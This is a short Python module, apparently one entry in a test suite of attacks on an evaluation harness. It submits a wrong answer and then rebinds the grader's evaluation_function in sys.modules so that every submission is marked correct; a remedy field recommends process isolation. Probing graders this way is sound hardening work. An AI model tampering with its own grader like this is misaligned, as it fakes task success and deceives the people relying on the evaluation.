# SPDX-License-Identifier: MIT
"""Goal:  a wrong answer is marked correct.
Means: the name under which the grader finds the evaluation function is bound to another function. A
       module is a dict that all code of a process may write.
"""

import sys

from attack import DONE, attempting, denied, submit


def run(brief):
    submit("0")
    attempting()
    evaluator = sys.modules.get("evaluator")
    if not evaluator:
        return denied("sys.modules", "no evaluator in this process")
    evaluator.evaluation_function = lambda *anything: {"is_correct": True, "feedback": "well done"}
    return DONE


ATTACK = {
    "effect": "a wrong submission is marked correct",
    "means": "evaluator.evaluation_function rebound in sys.modules",
    "oracle": "grade:forged",
    "grader": "rpc",
    "control": "in-process",
    "attack_id": "T1565.003, CWE-471",
    "remedy": "the submission in a process of its own, the mark made in another",
    "run": run,
}
